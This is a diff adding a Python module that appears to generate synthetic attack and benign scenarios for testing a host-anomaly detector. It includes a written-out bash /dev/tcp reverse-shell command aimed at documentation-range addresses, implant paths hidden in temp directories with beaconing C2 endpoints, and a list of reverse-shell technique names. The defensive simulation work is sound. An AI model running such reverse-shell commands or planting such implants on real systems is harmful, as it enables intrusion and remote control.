@@ -1,0 +1,222 @@
+"""Scenario families (`rarenet simulate --scenarios all`), each one labelled or named.
+
+Labelled (malicious, labels' "family"):
+
+* spread: an implant in a hidden, writable directory copied host to host — 2 to 5
+  hosts across roles, hops of 20 minutes to 3 hours, one C2 address;
+* repeat: an attack tool of the classic set used again on another host 1 to 3 days
+  later (a second intrusion, or the same operator moving on);
+* child-shell: `bash -c 'exec 3<>/dev/tcp/…; sleep 600'` from a web or database
+  foothold: the socket is reported for the child `sleep`, whose parent is bash.
+
+Benign (no labels; docs/quality.md counts their signals):
+
+* rollout: a package (ROLLOUT_PACKAGES) reaching 30–100 % of the hosts in 3 to 5
+  waves within 20 hours, then running as a daemon;
+* weekly: a new weekly job (WEEKLY_JOBS) starting on several hosts at the same moment;
+* re-imaged hosts (fleet.build_fleet): a host vanishes and a new host id of the same
+  role takes over; user-installed tools come with every run (fleet.ToolInstall).
+"""
+
+from __future__ import annotations
+
+import random
+from collections import defaultdict
+from collections.abc import Sequence
+from dataclasses import dataclass, field
+
+from baseline.simulate.attacks import FOOTHOLD, AttackPlan, Technique, attack_window, place
+from baseline.simulate.catalogue import PROGRAMS, ROLLOUT_PACKAGES, UPGRADES, WEEKLY_JOBS, Program
+from baseline.simulate.fleet import Fleet, Host
+from baseline.simulate.roles import FIXED, PERIODIC, ActivitySpec
+
+HOUR, DAY = 3600, 86400
+WEEK = 7 * DAY
+BEACON_OFFSETS = tuple(range(0, 5400, 600))  # every 10 minutes for 1.5 hours
+_IMPLANTS = (
+    ("kdevtmpfsi", "/var/tmp/.font-unix/kdevtmpfsi", "203.0.113.66", 8080),
+    ("dbus-launch", "/dev/shm/.x11/dbus-launch", "198.51.100.77", 443),
+    ("kswapd0", "/tmp/.ICE-unix/.k/kswapd0", "203.0.113.31", 53),
+)
+_SPREAD_FLAVORS = ("web", "db", "ci", "cache", "k8s", "bastion", "queue", "mail", "dev")
+_REPEATABLE = (
+    "reverse-shell-nc",
+    "reverse-shell-socat",
+    "reverse-shell-perl",
+    "reverse-shell-openssl",
+    "tmp-beacon",
+    "masquerade-shm-sshd",
+    "masquerade-path-curl",
+)
+
+
+@dataclass
+class Scenarios:
+    """What `--scenarios all` adds to a run: labelled plans and benign activities."""
+
+    plans: list[AttackPlan] = field(default_factory=list)
+    extras: dict[int, list[tuple[ActivitySpec, int]]] = field(
+        default_factory=lambda: defaultdict(list)
+    )
+    rollouts: dict[str, int] = field(default_factory=dict)  # path → hosts reached
+
+
+def plan_scenarios(fleet: Fleet, seed: int, classic: Sequence[AttackPlan]) -> Scenarios:
+    """Every family, deterministically from the seed, avoiding the classic plans' hosts."""
+    rng = random.Random(f"rarenet-simulate:{seed}:families")
+    founders = [h for h in fleet.hosts if h.join <= fleet.start and h.leave > fleet.end]
+    used = {plan.host for plan in classic}
+    out = Scenarios()
+    earliest, latest = attack_window(fleet)
+    for number, implant in enumerate(_IMPLANTS[: 2 if len(founders) < 60 else 3]):
+        start = int(rng.uniform(earliest, max(earliest, latest - 5 * 3 * HOUR)))
+        out.plans += _spread(number, implant, founders, used, start, latest, rng)
+    out.plans += _repeats(classic, founders, used, latest, rng)
+    for number in range(2):
+        start = int(rng.uniform(earliest, latest))
+        plan = _child_shell(number, founders, used, start, rng)
+        if plan is not None:
+            out.plans.append(plan)
+    _rollouts(fleet, founders, rng, out)
+    _weekly_jobs(fleet, founders, rng, out)
+    out.plans.sort(key=lambda plan: plan.start)
+    return out
+
+
+def _free_host(
+    founders: Sequence[Host], used: set[int], flavors: Sequence[str], rng: random.Random
+) -> Host | None:
+    for flavor in flavors:
+        pool = [h for h in founders if h.flavor == flavor and h.index not in used]
+        if pool:
+            host = rng.choice(pool)
+            used.add(host.index)
+            return host
+    return None
+
+
+def _spread(
+    number: int,
+    implant: tuple[str, str, str, int],
+    founders: Sequence[Host],
+    used: set[int],
+    start: int,
+    latest: int,
+    rng: random.Random,
+) -> list[AttackPlan]:
+    name, path, remote, port = implant
+    hops = rng.randint(2, 5)
+    flavors = rng.sample(_SPREAD_FLAVORS, len(_SPREAD_FLAVORS))
+    tech = Technique(
+        f"spread-{number + 1}",
+        Program(name, path, f"{path} -c /tmp/.cfg", FOOTHOLD, FOOTHOLD, cwd="/tmp"),
+        remote,
+        port,
+        BEACON_OFFSETS,
+        False,
+        (),
+        (),
+        f"implant {path} copied host to host ({hops} hosts), beaconing to {remote}:{port}",
+        "spread",
+    )
+    plans, at = [], start
+    for hop in range(hops):
+        host = _free_host(founders, used, flavors[hop:] + flavors[:hop], rng)
+        if host is None or at > latest:
+            break
+        plans.append(place(tech, host, at))
+        at += int(rng.uniform(20 * 60, 3 * HOUR))
+    return plans
+
+
+def _repeats(
+    classic: Sequence[AttackPlan],
+    founders: Sequence[Host],
+    used: set[int],
+    latest: int,
+    rng: random.Random,
+) -> list[AttackPlan]:
+    candidates = [
+        p for p in classic if p.technique.id in _REPEATABLE and p.start + DAY + HOUR <= latest
+    ]
+    plans = []
+    for first in rng.sample(candidates, min(3, len(candidates))):
+        tech = first.technique
+        again = Technique(
+            f"{tech.id}-again",
+            tech.program,
+            tech.remote,
+            tech.port,
+            tech.offsets,
+            tech.respawn,
+            tech.prefer,
+            tech.avoid,
+            f"{tech.description}, again on another host days later",
+            "repeat",
+        )
+        allowed = [h for h in founders if h.role not in tech.avoid]
+        host = _free_host(allowed, used, [h.flavor for h in rng.sample(allowed, len(allowed))], rng)
+        if host is None:
+            continue
+        start = int(rng.uniform(first.start + DAY, min(first.start + 3 * DAY, latest)))
+        plans.append(place(again, host, start))
+    return plans
+
+
+def _child_shell(
+    number: int, founders: Sequence[Host], used: set[int], start: int, rng: random.Random
+) -> AttackPlan | None:
+    remote, port = ("203.0.113.50", 4444) if number == 0 else ("198.51.100.23", 9001)
+    command = f"bash -c exec 3<>/dev/tcp/{remote}/{port}; sleep 600"
+    tech = Technique(
+        f"child-shell-{number + 1}",
+        Program("sleep", "/usr/bin/sleep", "sleep 600", FOOTHOLD, FOOTHOLD, cwd="/tmp"),
+        remote,
+        port,
+        (0, 900),
+        True,
+        (),
+        (),
+        f"bash reverse shell whose child sleep holds the socket: {command}",
+        "child-shell",
+        Program("bash", "/usr/bin/bash", command, FOOTHOLD, FOOTHOLD, cwd="/tmp"),
+    )
+    host = _free_host(founders, used, ("web", "db", "ci", "cache"), rng)
+    return place(tech, host, start) if host is not None else None
+
+
+def _rollouts(fleet: Fleet, founders: Sequence[Host], rng: random.Random, out: Scenarios) -> None:
+    period = fleet.end - fleet.start
+    for key in rng.sample(sorted(ROLLOUT_PACKAGES), 2):
+        program, _flow = ROLLOUT_PACKAGES[key]
+        share = rng.uniform(0.3, 1.0)
+        reached = rng.sample(founders, max(2, round(share * len(founders))))
+        begin = fleet.start + int(rng.uniform(0.25, 0.6) * period)
+        waves = rng.randint(3, 5)
+        times = sorted(begin + int(rng.uniform(0, 20 * HOUR)) for _ in range(waves - 1))
+        spec = ActivitySpec((f"rollout:{key}",), PERIODIC, 900.0, open_at_start=True)
+        for i, host in enumerate(reached):
+            wave_start = begin if i % waves == 0 else times[i % waves - 1]
+            out.extras[host.index].append((spec, wave_start + rng.randrange(600)))
+        out.rollouts[program.path] = len(reached)
+
+
+def _weekly_jobs(
+    fleet: Fleet, founders: Sequence[Host], rng: random.Random, out: Scenarios
+) -> None:
+    period = fleet.end - fleet.start
+    for key in sorted(WEEKLY_JOBS):
+        count = min(len(founders), max(3, len(founders) // 10))
+        at = fleet.start + int(rng.uniform(0.3, 0.5) * period) // HOUR * HOUR
+        spec = ActivitySpec((f"weekly:{key}",), FIXED, float(WEEK))
+        for host in rng.sample(founders, count):
+            out.extras[host.index].append((spec, at))
+
+
+def benign_paths() -> dict[str, str]:
+    """Executable path → family of the benign scenario programs: rollout (the packages
+    above, the classic run's agent rollout and JDK upgrade) or weekly."""
+    paths = {program.path: "rollout" for program, _ in ROLLOUT_PACKAGES.values()}
+    for key in ("acme-agent", UPGRADES["java17"]):
+        paths[PROGRAMS[key].path] = "rollout"
+    return paths | {program.path: "weekly" for program, _ in WEEKLY_JOBS.values()}
